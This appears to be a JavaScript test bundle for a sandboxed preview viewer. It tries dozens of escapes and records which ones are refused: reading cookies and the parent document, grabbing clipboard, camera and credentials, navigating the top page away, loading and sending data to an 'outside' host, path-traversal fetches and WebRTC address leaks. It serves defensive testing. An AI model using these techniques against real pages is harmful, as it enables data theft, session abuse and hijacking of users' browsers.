/**
 * A bundle that tries what no bundle may. It is told where things are by `config` (`host`: the host that serves it,
 * `outside`: another server, `asked`: paths of the host), and keeps what came of each attempt in `self.came`.
 *
 * What it tries, it tries when it starts, and once more when it is clicked: some things are for people's clicks only.
 */
const { asked, host, outside } = self.config

/** What comes of an attempt: the name of what was thrown, what it answered, or that nothing came in time. */
const attempt = async (run) => {
  const patience = new Promise((resolve) => {
    setTimeout(resolve, 10_000, "nothing came")
  })
  const name = (error) => (error instanceof Error || error instanceof DOMException ? error.name : `threw ${error}`)
  try {
    const answer = await Promise.race([Promise.resolve(run()).catch((error) => `refused: ${name(error)}`), patience])
    return String(answer)
  } catch (error) {
    return `refused: ${name(error)}`
  }
}

const added = (tag, attributes) => {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  document.body.append(element)
  return element
}

/** What becomes of something that loads what a URL names. */
const loaded = (tag, attributes) =>
  new Promise((resolve) => {
    const element = added(tag, attributes)
    element.addEventListener("load", () => resolve("loaded"))
    element.addEventListener("error", () => resolve("refused"))
  })

const socket = (made) =>
  new Promise((resolve) => {
    made.addEventListener("open", () => resolve("opened"))
    made.addEventListener("error", () => resolve("refused"))
  })

/** What a worker of its own, made of text, gets of a URL. */
const byWorker = (url) =>
  new Promise((resolve) => {
    const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" }).then(() => postMessage("got"), () => postMessage("refused"))`
    const worker = new Worker(URL.createObjectURL(new Blob([text])))
    worker.addEventListener("message", ({ data }) => resolve(data))
    worker.addEventListener("error", () => resolve("refused"))
  })

const asking = (path, init) => () => fetch(host + path, { credentials: "include", ...init }).then(() => "got")

/** Candidates that name an address; gathering them is what asks a server outside. */
const candidates = (view) =>
  new Promise((resolve) => {
    const connection = new view.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(outside).host}` }] })
    const found = []
    connection.addEventListener("icecandidate", ({ candidate }) => {
      if (candidate !== null && / typ srflx /.test(candidate.candidate)) found.push(candidate.candidate)
      if (candidate === null) resolve(found.length === 0 ? "none" : "some")
    })
    connection.createDataChannel("x")
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  })

// Where the page has the recordings, if the name by which this runs opened them.
const recordings = location.href.replace("/replay/", "/preview-objects/")

const attempts = {
  "read a cookie": () => document.cookie,
  "write a cookie": () => (document.cookie = "hostile=1; path=/"),
  "local storage": () => localStorage.length,
  "session storage": () => sessionStorage.length,
  "an indexed database": () => indexedDB.databases().then(({ length }) => length),
  "a cache": () => caches.open("x"),
  "a file system": () => navigator.storage.getDirectory(),
  // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel has no target
  "a broadcast": () => new BroadcastChannel("x").postMessage("x") ?? "posted to its own origin",
  "a service worker": () => navigator.serviceWorker.register("./worker.js"),
  "storage access": () => document.requestStorageAccess(),
  "another domain": () => (document.domain = "127.0.0.1"),
  "the page's document": () => parent.document.body.innerHTML,
  "the top document": () => top.document.cookie,
  "the page's address": () => parent.location.href,
  "the frame's element": () => window.frameElement ?? "nothing",
  "a name that was left": () => JSON.stringify(window.name),
  "the referrer": () => JSON.stringify(document.referrer),
  "leading the top page away": () => (top.location.href = outside),
  "replacing the top page": () => top.location.replace(outside),
  "leading the page by a script": () => (parent.location.href = "javascript:document.body.remove()"),
  "a window in place of the top": () => window.open(outside, "_top"),
  "a pop-up": () => window.open(outside),
  "an empty pop-up": () => window.open("", "_blank"),
  "a link to the top": () => added("a", { href: outside, target: "_top" }).click() ?? "clicked",
  "a link that opens": () => added("a", { href: outside, target: "_blank" }).click() ?? "clicked",
  "a form to the top": () => added("form", { action: outside, target: "_top", method: "post" }).submit() ?? "sent",
  "a form for the sign-out": () => added("form", { action: `${host}/sign-out`, method: "post" }).submit() ?? "sent",
  "a download": () => added("a", { href: "data:text/plain,x", download: "x.exe" }).click() ?? "clicked",
  "the way back": () => history.back() ?? "asked for",
  "an alert": () => alert("x") ?? "answered with nothing",
  "a question": () => confirm("x"),
  "a prompt": () => prompt("x"),
  printing: () => print() ?? "answered with nothing",
  "the full screen": () => document.documentElement.requestFullscreen(),
  "the pointer": () => document.documentElement.requestPointerLock(),
  "the keyboard": () => navigator.keyboard.lock(),
  "the clipboard": () => navigator.clipboard.readText(),
  "the camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
  "the screen": () => navigator.mediaDevices.getDisplayMedia(),
  "the place": () =>
    new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve("got"),
        () => resolve("refused")
      )
    }),
  // A browser without a window answers "default": it asks nobody.
  "a notification": () =>
    Notification.requestPermission().then((state) => (state === "granted" ? state : "not granted")),
  "a credential": () => navigator.credentials.get({ password: true }),
  "an image from outside": () => loaded("img", { src: `${outside}image` }),
  "a script from outside": () => loaded("script", { src: `${outside}script.js` }),
  "a module from outside": () => import(`${outside}module.js`),
  "a style from outside": () => loaded("link", { rel: "stylesheet", href: `${outside}style.css` }),
  "a prefetch": () => loaded("link", { rel: "prefetch", href: `${outside}prefetch` }),
  "a preload": () => loaded("link", { rel: "preload", as: "image", href: `${outside}preload` }),
  "a connection": () => added("link", { rel: "preconnect", href: outside }) && "asked for",
  "a name to look up": () => added("link", { rel: "dns-prefetch", href: outside }) && "asked for",
  "a frame from outside": () => loaded("iframe", { src: `${outside}frame` }) && "asked for",
  "a frame of the viewer": () => loaded("iframe", { src: `${host}/` }) && "asked for",
  "an object from outside": () => loaded("object", { data: `${outside}object` }) && "asked for",
  "a worker from outside": () => String(new Worker(`${outside}worker.js`)),
  "a request outside": () => fetch(outside, { mode: "no-cors" }),
  "a request outside by a worker": () => byWorker(outside),
  "a beacon": () => navigator.sendBeacon(outside, "x") && "asked for",
  "a socket": () => socket(new WebSocket(outside.replace("http", "ws"))),
  "a stream of events": () => socket(new EventSource(outside)),
  "a speculation": () => {
    const element = Object.assign(document.createElement("script"), { type: "speculationrules" })
    element.textContent = JSON.stringify({ prefetch: [{ urls: [`${outside}speculation`], eagerness: "immediate" }] })
    document.head.append(element)
    return "asked for"
  },
  "a request for later": () => fetchLater(outside, { activateAfter: 0 }) && "asked for",
  "a ping": () => added("a", { href: "#", ping: outside }).click() ?? "clicked",
  "a poster": () => added("video", { poster: `${outside}poster` }) && "asked for",
  "a style that imports": () => {
    const style = document.createElement("style")
    style.textContent = `@import "${outside}import.css"; body { background: url("${outside}background") }`
    document.head.append(style)
    return "asked for"
  },
  "a font": () => new FontFace("x", `url("${outside}font")`).load(),
  "a worklet": () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${outside}worklet.js`),
  "a shared worker": () => new SharedWorker(`${outside}shared.js`),
  "a transport": () => new WebTransport(outside.replace("http:", "https:")).ready,
  "a source to tell": () => added("img", { attributionsrc: `${outside}source` }) && "asked for",
  "its own recordings": () => fetch(`${recordings}recordings/0`),
  "a picture of its own recordings": () => loaded("img", { src: `${recordings}recordings/0` }),
  "what lies above": () => fetch("../../previews"),
  "what lies above, said in code": () => fetch("./..%2f..%2fsign-in").then(({ status }) => status),
  "what another one is": () => fetch(`../${"A".repeat(60)}.${"A".repeat(43)}/index.js`),
  "the page's origin and no more": () => ([...location.ancestorOrigins].join() === host ? "one" : "more"),
  "a call": () => candidates(self),
  "a call from an empty frame": () => candidates(added("iframe", {}).contentWindow)
}
for (const path of asked) {
  attempts[`${path} with credentials`] = asking(path)
  attempts[`${path} unread`] = asking(path, { mode: "no-cors" })
  attempts[`${path} by POST`] = asking(path, { mode: "no-cors", method: "POST" })
}

const all = async () => {
  const came = await Promise.all(Object.entries(attempts).map(async ([name, run]) => [name, await attempt(run)]))
  return Object.fromEntries(came)
}

const root = document.getElementById("root")
root.innerHTML = "<button>Try once more</button>"
root.firstChild.addEventListener("click", async () => {
  self.cameByClick = await all()
})
void all().then((came) => {
  self.came = came
})
